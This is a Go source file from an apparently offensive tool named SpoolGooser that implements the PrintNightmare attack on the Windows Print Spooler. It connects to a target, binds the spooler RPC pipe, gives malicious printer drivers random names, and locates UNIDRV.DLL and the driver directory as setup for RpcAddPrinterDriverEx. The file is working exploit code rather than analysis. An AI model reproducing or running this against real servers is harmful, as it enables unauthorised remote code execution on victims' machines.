package printnightmare

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/ineffectivecoder/SpoolGooser/pkg/dcerpc"
	"github.com/ineffectivecoder/SpoolGooser/pkg/rprn"
)

// Session drives one target. It is not safe for concurrent use.
type Session struct {
	transport Transport
	rprn      *rprn.Client
	reporter  Reporter
	random    Randomness
	config    Config

	// sleep waits out the reconnect delay; replaced in tests
	sleep func(ctx context.Context, d time.Duration) error
}

// NewSession creates a session over transport
func NewSession(transport Transport, reporter Reporter, random Randomness, config Config) *Session {
	if config.ReconnectDelay < 0 {
		config.ReconnectDelay = 0
	}
	return &Session{
		transport: transport,
		rprn:      rprn.NewClient(transport),
		reporter:  reporter,
		random:    random,
		config:    config,
		sleep:     sleepContext,
	}
}

func sleepContext(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()

	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

// Close releases the transport
func (s *Session) Close() error {
	return s.transport.Close()
}

// bind binds the spooler interface on its pipe
func (s *Session) bind(ctx context.Context) error {
	s.reporter.Debug("Binding to %s:%d.%d@ncacn_np:%s[\\%s] ...",
		rprn.InterfaceUUID, rprn.InterfaceMajor, rprn.InterfaceMinor, s.transport.Host(), rprn.PipeName)

	b, err := s.transport.Bind(ctx, rprn.InterfaceUUID, rprn.InterfaceMajor, rprn.InterfaceMinor, rprn.PipeName)
	if err != nil {
		return err
	}
	s.reporter.Debug("Bound to %s ...", b)
	return nil
}

// open connects, authenticates and binds, wrapping each failure in its
// connectivity sentinel
func (s *Session) open(ctx context.Context) error {
	if err := s.transport.Connect(ctx); err != nil {
		return fmt.Errorf("%w: %v", ErrConnect, err)
	}
	if err := s.transport.Authenticate(ctx); err != nil {
		return fmt.Errorf("%w: %v", ErrAuthenticate, err)
	}
	if err := s.bind(ctx); err != nil {
		return fmt.Errorf("%w: %w", ErrBind, err)
	}
	return nil
}

// environmentLabel maps the bound architecture to a driver environment
func environmentLabel(arch dcerpc.Arch) (string, bool) {
	switch arch {
	case dcerpc.ArchX64:
		return rprn.EnvironmentX64, true
	case dcerpc.ArchX86:
		return rprn.EnvironmentX86, true
	}
	return "", false
}

// server is the pName sent with RpcAddPrinterDriverEx
func (s *Session) server() string {
	return `\\` + s.transport.Host()
}

// siblingPath replaces the final component of a backslash path
func siblingPath(path, name string) string {
	dir, _, _ := cutLast(path, `\`)
	return dir + `\` + name
}

// cutLast splits s around the last sep. Without sep, before is empty.
func cutLast(s, sep string) (before, after string, found bool) {
	i := strings.LastIndex(s, sep)
	if i < 0 {
		return "", s, false
	}
	return s[:i], s[i+len(sep):], true
}

// container builds a driver container with a fresh random driver name
func (s *Session) container(env Environment, config, data string) rprn.DriverContainer {
	name := s.random.UpperAlpha(2, 4) + " " + s.random.Numeric(2, 3)
	return rprn.NewDriverContainer(rprn.NewDriverInfo2(name, env.Label, env.DriverPath, data, config))
}

// firstDriverPath enumerates the installed drivers and returns the UNIDRV.DLL
// path beside the first one
func (s *Session) firstDriverPath(ctx context.Context, label string) (string, error) {
	resp, err := s.rprn.EnumPrinterDrivers(ctx, "", label, 2)
	if err != nil {
		return "", err
	}
	if resp.Status != 0 {
		return "", statusError("RpcEnumPrinterDrivers", resp.Status)
	}

	info, err := rprn.DecodeDriverInfo2(resp.Drivers)
	if err != nil {
		return "", err
	}
	return siblingPath(rprn.Text(info.DriverPath), probeDLL), nil
}

// driverDirectory fetches the server's driver directory for label
func (s *Session) driverDirectory(ctx context.Context, label string) (string, error) {
	resp, err := s.rprn.GetPrinterDriverDirectory(ctx, "", label, 2)
	if err != nil {
		return "", err
	}
	if resp.Status != 0 {
		return "", statusError("RpcGetPrinterDriverDirectory", resp.Status)
	}
	return rprn.DecodeDriverDirectory(resp.Directory)
}
